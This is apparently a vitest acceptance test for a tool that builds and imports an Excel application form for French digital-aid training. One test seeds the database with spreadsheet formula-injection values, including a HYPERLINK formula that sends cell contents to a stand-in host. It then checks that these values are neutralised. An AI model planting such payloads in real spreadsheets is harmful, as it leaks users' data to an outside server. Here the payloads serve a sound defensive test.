// Acceptance of the application-form workbook: a structure fills the generated file (here
// programmatically, with exceljs, as Excel would save it), the officer imports it through the
// real CLI with no mapping step, and every person and structure comes in with the right
// eligibility. The drop-downs are read back from the file's XML; headers are protected; text
// coming from the database cannot become a formula.
import { spawn } from 'node:child_process';
import fs from 'node:fs';
import path from 'node:path';
import Database from 'better-sqlite3';
import ExcelJS from 'exceljs';
import { afterEach, describe, expect, it } from 'vitest';
import { luhnValid } from '../../electron/services/common/identifiers';
import { FORM_HEADER_ROW, FORM_SHEET, formulaireWorkbook, inlineList, NOTES_SHEET } from '../../electron/services/documents/formulaire';
import { formColumns } from '../../electron/services/documents/formulaire-columns';
import { dispatch } from '../../electron/services/handlers';
import { ineligibilityRules } from '../../electron/services/recensement/eligibility';
import { creuseConvention, openTestApp, tempDir, type TestApp } from '../helpers/app';
import { readZip } from '../helpers/zip';

const root = path.resolve(__dirname, '../..');
const apps: TestApp[] = [];
afterEach(async () => {
  for (const a of apps.splice(0)) await a.close();
});

async function setup() {
  const a = openTestApp({ now: '2025-03-01T10:00:00Z' });
  apps.push(a);
  const c = await dispatch(a.ctx, 'convention.create', creuseConvention);
  if (!c.ok) throw new Error(c.error.message);
  return { a, conventionId: (c.value as { id: number }).id };
}

async function ok<T>(p: Promise<{ ok: boolean; value?: unknown; error?: { message: string } }>): Promise<T> {
  const r = await p;
  if (!r.ok) throw new Error(r.error!.message);
  return r.value as T;
}

/** A Luhn-valid SIRET from a 13-digit prefix. */
function siret(prefix13: string): string {
  for (let d = 0; d <= 9; d++) if (luhnValid(prefix13 + d)) return prefix13 + d;
  throw new Error('no check digit');
}

/** The CLI as the officer runs it, in its own process (the worker itself, not npm's wrapper). */
function cliImport(file: string, db: string): Promise<{ code: number; stdout: string; stderr: string }> {
  return new Promise((resolve, reject) => {
    const p = spawn(process.execPath, ['--import', 'tsx', 'electron/cli/main.ts', 'import', file, '--json', '--db', db], { cwd: root });
    let stdout = '';
    let stderr = '';
    p.stdout.on('data', (d) => (stdout += String(d)));
    p.stderr.on('data', (d) => (stderr += String(d)));
    p.on('error', reject);
    p.on('exit', (code) => resolve({ code: code ?? -1, stdout, stderr }));
  });
}

const col = (field: string) => formColumns.findIndex((c) => c.field === field) + 1;
const colOfHeader = (h: string) => formColumns.findIndex((c) => c.header === h) + 1;

describe('formulaire de candidature (classeur)', () => {
  it('filled by structures and re-imported through the CLI: every person and structure, right eligibility, no mapping step', async () => {
    const { a, conventionId } = await setup();
    const wb = await formulaireWorkbook(a.ctx, { conventionId, deadline: '2025-04-15', returnTo: 'fne@creuse.fr' });
    expect(wb.fileName).toBe('formulaire-candidature-23.xlsx');

    // --- the structure fills it in ---
    const mairie = { name: 'Mairie de Guéret', siret: siret('2123009650001'), type: 'Commune / mairie', address: '9 avenue Fayolle', postcode: '23000', city: 'Guéret', statut: 'Collectivité territoriale', unif: 'Non', fs: 'Non' };
    const asso = { name: 'Association Solidarité Creuse', siret: siret('4410022330001'), type: 'Association', address: '2 rue des Lilas', postcode: '23200', city: 'Aubusson', statut: 'Association', unif: 'Oui', fs: 'Non' };
    const ccas = { name: 'CCAS d’Aubusson', siret: siret('2623008130001'), type: 'CCAS / CIAS', address: '1 place de la mairie', postcode: '23200', city: 'Aubusson', statut: 'Établissement public', unif: 'Ne sait pas', fs: 'Oui' };
    type S = typeof mairie;
    const people: { s: S; nom: string; prenom: string; fonction: string; email: string; tel: string; statut: string; cn: string; formation: string; sensibilise: string; unif?: string; expect: string[] }[] = [
      { s: mairie, nom: 'Durand', prenom: 'Anne', fonction: 'Secrétaire de mairie', email: 'anne.durand@gueret.fr', tel: '0555123456', statut: 'Agent public', cn: 'Non', formation: 'Aidants Connect', sensibilise: 'Oui', expect: [] },
      { s: mairie, nom: 'Martin', prenom: 'Paul', fonction: 'Médiateur', email: 'paul.martin@gueret.fr', tel: '', statut: 'Agent public', cn: 'Oui', formation: 'Les deux (AN et AC)', sensibilise: 'Oui', expect: ['conseiller_numerique'] },
      { s: asso, nom: 'Petit', prenom: 'Léa', fonction: 'Accueil', email: 'lea.petit@solidarite23.org', tel: '', statut: 'Bénévole', cn: 'Non', formation: 'Aidants Numériques', sensibilise: 'Non', unif: 'Non', expect: ['benevole'] },
      { s: asso, nom: 'Roux', prenom: 'Marc', fonction: 'Volontaire', email: 'marc.roux@solidarite23.org', tel: '', statut: 'Volontaire en service civique', cn: 'Non', formation: 'Aidants Numériques', sensibilise: 'Non', unif: 'Non', expect: ['service_civique'] },
      { s: asso, nom: 'Bernard', prenom: 'Sophie', fonction: 'Conseillère sociale', email: 'sophie.bernard@solidarite23.org', tel: '', statut: 'Salarié', cn: 'Non', formation: 'Aidants Numériques', sensibilise: 'Oui', expect: ['uniformation'] },
      { s: ccas, nom: 'Moreau', prenom: 'Jean', fonction: 'Travailleur social', email: 'jean.moreau@aubusson.fr', tel: '0555987654', statut: 'Agent public', cn: 'Non', formation: 'Aidants Numériques', sensibilise: 'Non', expect: [] },
      { s: ccas, nom: 'Lefèvre', prenom: 'Nadia', fonction: 'Agent d’accueil', email: 'nadia.lefevre@aubusson.fr', tel: '', statut: 'Agent public', cn: 'Non', formation: 'Aidants Connect', sensibilise: 'Oui', expect: [] },
    ];
    const filled = path.join(tempDir(), 'retour-structures.xlsx');
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(Buffer.from(wb.bytes) as unknown as ArrayBuffer);
    const ws = book.getWorksheet(FORM_SHEET)!;
    people.forEach((p, i) => {
      const row = ws.getRow(FORM_HEADER_ROW + 1 + i);
      const set = (c: number, v: string) => {
        if (v !== '') row.getCell(c).value = v;
      };
      set(col('structure_nom'), p.s.name);
      set(col('siret'), p.s.siret);
      set(col('structure_type'), p.s.type);
      set(col('adresse'), p.s.address);
      set(col('code_postal'), p.s.postcode);
      set(col('commune'), p.s.city);
      set(col('statut_employeur'), p.s.statut);
      set(col('uniformation'), p.unif ?? p.s.unif);
      set(col('france_services'), p.s.fs);
      set(col('nom'), p.nom);
      set(col('prenom'), p.prenom);
      set(col('profession'), p.fonction);
      set(col('email'), p.email);
      set(col('telephone'), p.tel);
      set(col('statut'), p.statut);
      set(col('conseiller_numerique'), p.cn);
      set(col('formation_souhaitee'), p.formation);
      set(col('deja_sensibilise'), p.sensibilise);
    });
    await book.xlsx.writeFile(filled);

    // --- the officer imports it: no mapping given, none asked ---
    const db = path.join(tempDir(), 'import.sqlite');
    const r = await cliImport(filled, db);
    expect(r.stderr).toBe('');
    expect(r.code).toBe(0);
    const res = JSON.parse(r.stdout) as { kind: string; sheet: string; headerRow: number; rows: number; people: { created: number }; structures: { created: number }; rejected: unknown[] };
    expect(res).toMatchObject({ kind: 'formulaire', sheet: FORM_SHEET, headerRow: FORM_HEADER_ROW, rows: people.length, people: { created: people.length }, structures: { created: 3 }, rejected: [] });

    const d = new Database(db, { readonly: true });
    try {
      const rows = d
        .prepare(
          `SELECT p.nom, p.prenom, p.email, p.phone, p.profession, p.statut, p.training_wish, p.deja_sensibilise, p.eligible, p.ineligible_json, s.name AS structure, s.siret
           FROM people p JOIN structures s ON s.id = p.structure_id ORDER BY p.id`,
        )
        .all() as { nom: string; prenom: string; email: string; phone: string | null; statut: string; training_wish: string; deja_sensibilise: number | null; eligible: number; ineligible_json: string; structure: string; siret: string }[];
      // « Déjà sensibilisé(e) » is kept, not dropped.
      expect(rows.map((x) => x.deja_sensibilise)).toEqual(people.map((p) => (p.sensibilise === 'Oui' ? 1 : 0)));
      expect(rows.map((x) => [x.nom, x.prenom, x.structure, x.siret, JSON.parse(x.ineligible_json), x.eligible])).toEqual(
        people.map((p) => [p.nom, p.prenom, p.s.name, p.s.siret, p.expect, p.expect.length === 0 ? 1 : 0]),
      );
      expect(rows.map((x) => x.training_wish)).toEqual(['AC', 'AN_AC', 'AN', 'AN', 'AN', 'AN', 'AC']);
      expect(rows[0].phone).toBe('0555123456');
      const structures = d.prepare('SELECT name, siret, type, address, postcode, city, departement, statut_employeur, france_services FROM structures ORDER BY id').all();
      expect(structures).toEqual(
        [mairie, asso, ccas].map((s) => ({
          name: s.name,
          siret: s.siret,
          type: s.type,
          address: s.address,
          postcode: s.postcode,
          city: s.city,
          departement: '23',
          statut_employeur: s.statut,
          france_services: s.fs === 'Oui' ? 1 : 0,
        })),
      );
    } finally {
      d.close();
    }
  });

  it('has a drop-down on every closed answer over all answer rows (read back from the file), protected headers, unlocked text answer cells', async () => {
    const { a, conventionId } = await setup();
    const wb = await formulaireWorkbook(a.ctx, { conventionId, rows: 50 });
    const file = path.join(tempDir(), wb.fileName);
    fs.writeFileSync(file, wb.bytes);
    const entries = await readZip(file);
    const xml = (name: string) => entries.find((e) => e.name === name)!.bytes.toString('utf8');
    // The sheet's part, through the workbook's relationships.
    const sheetPart = (name: string) => {
      const rid = new RegExp(`<sheet [^>]*name="${name}"[^>]*r:id="([^"]+)"`).exec(xml('xl/workbook.xml'))![1];
      const target = new RegExp(`<Relationship [^>]*Id="${rid}"[^>]*Target="([^"]+)"`).exec(xml('xl/_rels/workbook.xml.rels'))![1];
      return xml('xl/' + target.replace(/^\/?xl\//, ''));
    };
    const sheet = sheetPart(FORM_SHEET);
    const validations = [...sheet.matchAll(/<dataValidation ([^>]*)>\s*<formula1>([^<]*)<\/formula1>/g)].map((m) => ({
      type: /type="([^"]*)"/.exec(m[1])![1],
      sqref: /sqref="([^"]*)"/.exec(m[1])![1],
      errorStyle: /errorStyle="([^"]*)"/.exec(m[1])?.[1] ?? 'stop',
      formula: m[2].replace(/&quot;/g, '"'),
    }));
    const expected = formColumns.flatMap((c, i) =>
      c.list
        ? [{ type: 'list', sqref: `${String.fromCharCode(65 + i)}${FORM_HEADER_ROW + 1}:${String.fromCharCode(65 + i)}${FORM_HEADER_ROW + 50}`, errorStyle: c.strict ? 'stop' : 'warning', formula: inlineList(c.list) }]
        : [],
    );
    expect(validations).toEqual(expected);
    // Statut, conseiller numérique, formation, Uniformation, France Services, déjà sensibilisé, statut employeur, type: 8 closed answers.
    expect(validations).toHaveLength(8);
    // Both sheets protected (no password: a guard against slips).
    expect(sheet).toMatch(/<sheetProtection sheet="1"/);
    expect(sheetPart(NOTES_SHEET)).toMatch(/<sheetProtection sheet="1"/);

    const book = new ExcelJS.Workbook();
    await book.xlsx.readFile(file);
    const ws = book.getWorksheet(FORM_SHEET)!;
    formColumns.forEach((c, i) => {
      const h = ws.getRow(FORM_HEADER_ROW).getCell(i + 1);
      expect(h.value).toBe(c.header);
      expect(h.protection?.locked).not.toBe(false);
      const answer = ws.getRow(FORM_HEADER_ROW + 1).getCell(i + 1);
      expect(answer.protection?.locked).toBe(false);
      expect(answer.numFmt).toBe('@');
      expect(ws.getRow(FORM_HEADER_ROW + 50).getCell(i + 1).protection?.locked).toBe(false);
    });
    // The title rows above the headers are locked too.
    expect(ws.getCell('A1').protection?.locked).not.toBe(false);
    // The notes explain who cannot be funded, with the rules' own reasons.
    const notes = book.getWorksheet(NOTES_SHEET)!;
    const text: string[] = [];
    notes.eachRow((row) => row.eachCell((cell) => text.push(String(cell.value))));
    for (const [code, reason] of Object.entries(ineligibilityRules)) if (code !== 'decision_agent') expect(text.join('\n')).toContain(reason);
  });

  it('pre-filled for one structure: text from the database cannot become a formula (neutralised)', async () => {
    const { a, conventionId } = await setup();
    const s = await ok<{ id: number }>(dispatch(a.ctx, 'recensement.structures.save', { values: { name: '=HYPERLINK("http://x.example/?"&A1;"Cliquez")', siret: siret('2123009650001'), postcode: '23000', city: 'Guéret' } }));
    await ok(dispatch(a.ctx, 'recensement.people.save', { values: { nom: '@SUM(1+1)', prenom: '+Anne', email: 'anne.durand@gueret.fr', structureId: s.id, statut: 'Agent public', trainingWish: 'AC', conseillerNumerique: false } }));
    await ok(dispatch(a.ctx, 'recensement.people.save', { values: { nom: 'Martin', prenom: '-Paul', email: 'paul.martin@gueret.fr', structureId: s.id, statut: 'Bénévole' } }));
    const wb = await formulaireWorkbook(a.ctx, { conventionId, structureId: s.id });
    const file = path.join(tempDir(), 'pre.xlsx');
    fs.writeFileSync(file, wb.bytes);
    const sheet = (await readZip(file)).find((e) => e.name === 'xl/worksheets/sheet1.xml')!.bytes.toString('utf8');
    expect(sheet).not.toMatch(/<f>|<f /);
    const book = new ExcelJS.Workbook();
    await book.xlsx.readFile(file);
    const ws = book.getWorksheet(FORM_SHEET)!;
    const r1 = ws.getRow(FORM_HEADER_ROW + 1);
    const r2 = ws.getRow(FORM_HEADER_ROW + 2);
    expect(r1.getCell(col('structure_nom')).value).toBe('\'=HYPERLINK("http://x.example/?"&A1;"Cliquez")');
    expect(r1.getCell(col('nom')).value).toBe("'@SUM(1+1)");
    expect(r1.getCell(col('prenom')).value).toBe("'+Anne");
    expect(r1.getCell(col('formation_souhaitee')).value).toBe('Aidants Connect');
    expect(r2.getCell(col('prenom')).value).toBe("'-Paul");
    expect(r2.getCell(col('statut')).value).toBe('Bénévole');
    // Every cell value of the sheet: no text starting with a formula character.
    ws.eachRow((row) => row.eachCell((cell) => expect(typeof cell.value === 'string' && /^[=+\-@]/.test(cell.value), String(cell.value)).toBe(false)));
  });

  it('refuses an unknown convention or a bad deadline', async () => {
    const { a } = await setup();
    const r = await dispatch(a.ctx, 'documents.formulaire.xlsx', { conventionId: 99 });
    expect(r.ok).toBe(false);
    if (!r.ok) expect(r.error.code).toBe('not_found');
  });
});
